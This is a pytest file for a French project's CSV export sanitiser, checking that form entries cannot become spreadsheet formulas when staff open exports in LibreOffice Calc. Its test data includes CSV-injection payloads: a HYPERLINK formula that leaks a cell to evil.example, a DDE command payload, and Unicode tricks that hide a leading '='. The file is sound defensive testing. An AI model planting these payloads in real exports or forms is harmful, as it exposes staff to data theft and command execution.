"""The staff's CSV exports made harmless (OWASP's « CSV injection »): cell() and rows(), then a real
LibreOffice Calc that opens such an export and must find no formula in it."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from plugins.base.spreadsheet import cell, rows

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
DDE = "+cmd|' /C calc'!A0"
# What the public could type in a form, and what the staff must still read once it is neutralised.
DANGEROUS = [HYPERLINK, DDE, "=1+1", "@SUM(1,2)", "-2+3", "\t=1+1", "\r=1+1", "\u202e=1+1", "\uff1d1+1"]
ORDINARY = ["Élodie Martin", "elodie.martin@exemple.fr", "2027-01-05", ""]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("=1+1", "'=1+1"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\u202e=1+1", "'=1+1"),  # the bidi control hid the « = » behind an invisible first character
        ("MSP \u2066des\u2069 Coteaux\u200e", "MSP des Coteaux"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(1,2)", "'\uff20SUM(1,2)"),
        ("Élodie Martin", "Élodie Martin"),
        ("elodie.martin@exemple.fr", "elodie.martin@exemple.fr"),
        ("2027-01-05", "2027-01-05"),
        (" =1+1", " =1+1"),  # only the first character counts (OWASP's rule)
        ("", ""),
    ],
)
def test_cell_neutralises_what_could_start_a_formula(value: str, expected: str) -> None:
    assert cell(value) == expected


def test_rows_applies_cell_to_every_value() -> None:
    assert rows([["Nom", "Réponse"], ("=1+1", "Élodie Martin"), iter(["", "@x"])]) == [
        ["Nom", "Réponse"],
        ["'=1+1", "Élodie Martin"],
        ["", "'@x"],
    ]


def write_export(path: Path, table: list[list[str]]) -> None:
    """Write a CSV exactly as the project writes the staff's exports: ';', CRLF, UTF-8 with a BOM."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerows(table)
    path.write_text("\ufeff" + out.getvalue(), encoding="utf-8", newline="")


def open_in_calc(source: Path, outdir: Path, home: Path) -> tuple[list[ElementTree.Element], list[str]]:
    """Convert source to .xlsx with LibreOffice; return the first sheet's formula elements and the workbook's texts."""
    done = subprocess.run(
        [
            "soffice",
            "--headless",
            "--infilter=CSV:59,34,76,1",  # ';' separated, '"' quoted, UTF-8, from line 1
            "--convert-to",
            "xlsx",
            "--outdir",
            str(outdir),
            str(source),
        ],
        env={**os.environ, "HOME": str(home)},  # soffice's profile goes there, not in the tester's home
        capture_output=True,
        text=True,
        timeout=180,
    )
    workbook = outdir / (source.stem + ".xlsx")
    assert done.returncode == 0 and workbook.is_file(), f"soffice a échoué : {done.stdout}{done.stderr}"
    with zipfile.ZipFile(workbook) as xlsx:
        sheet = ElementTree.fromstring(xlsx.read("xl/worksheets/sheet1.xml"))
        names = xlsx.namelist()
        shared = ElementTree.fromstring(xlsx.read("xl/sharedStrings.xml")) if "xl/sharedStrings.xml" in names else None
    formulas = list(sheet.iter(MAIN + "f"))
    texts = ["".join(si.itertext()) for si in shared.iter(MAIN + "si")] if shared is not None else []
    texts += ["".join(inline.itertext()) for inline in sheet.iter(MAIN + "is")]
    return formulas, texts


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice absent (soffice) : lancez bash scripts/install.sh --test"
)
def test_libreoffice_runs_no_formula_from_a_neutralised_export(tmp_path: Path) -> None:
    header = ["Équipe", "Contact", "Adresse", "Date"]
    table = [[value, "Élodie Martin", "elodie.martin@exemple.fr", "2027-01-05"] for value in DANGEROUS + ORDINARY]
    home, outdir = tmp_path / "home", tmp_path / "xlsx"
    home.mkdir()

    control = tmp_path / "brut.csv"
    write_export(control, [header, *table])
    formulas, _ = open_in_calc(control, outdir, home)
    # Without rows() LibreOffice does read formulas: otherwise this test could not fail.
    assert formulas, "le CSV témoin devait contenir au moins une formule pour LibreOffice"

    export = tmp_path / "export.csv"
    write_export(export, rows([header, *table]))
    formulas, texts = open_in_calc(export, outdir, home)
    assert not formulas, [ElementTree.tostring(f, encoding="unicode") for f in formulas]
    # The staff still read what was typed, as text.
    for typed in (HYPERLINK, DDE, "=1+1", "@SUM(1,2)", "-2+3", "Élodie Martin", "Équipe"):
        assert any(typed in text for text in texts), (typed, texts)


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice absent (soffice) : lancez bash scripts/install.sh --test"
)
def test_the_staff_exports_as_the_commands_write_them_run_no_formula(tmp_path: Path) -> None:
    """`inscriptions exporter` and `abonnes exporter` as the staff run them, with what strangers typed, opened in Calc."""
    from datetime import UTC, datetime

    from plugins.records.readers import ReaderStore
    from plugins.records.registrations import RegistrationBook
    from tests.support import REPO, TODAY

    db = tmp_path / "service.sqlite"
    book = RegistrationBook(db)
    start = datetime(2027, 2, 10, 9, tzinfo=UTC)
    for n, typed in enumerate(DANGEROUS):
        answers = {"profession": "Autre"}
        book.register("forum-installation-2027", start, f"p{n}@exemple.fr", typed, answers, 120, True, datetime.now(UTC))
    ReaderStore(db).import_rows([("lecteur@exemple.fr", HYPERLINK, "public")], "=1+1", datetime.now(UTC))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SMTP_", "LETTER_"))}
    command = [sys.executable, str(REPO / "build.py"), "--project", str(REPO), "--today", TODAY.isoformat()]
    registrants, readers = tmp_path / "inscrits.csv", tmp_path / "lecteurs.csv"
    for args in (
        ["inscriptions", "--db", str(db), "exporter", "forum-installation-2027", "--sortie", str(registrants)],
        ["abonnes", "--db", str(db), "exporter", "--sortie", str(readers)],
    ):
        done = subprocess.run([*command, *args], env=env, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
    home = tmp_path / "home"
    home.mkdir()
    for export, typed in ((registrants, "=1+1"), (readers, HYPERLINK)):
        formulas, texts = open_in_calc(export, tmp_path / "xlsx", home)
        assert not formulas, (export.name, [ElementTree.tostring(f, encoding="unicode") for f in formulas])
        assert any(typed in text for text in texts), (export.name, texts)
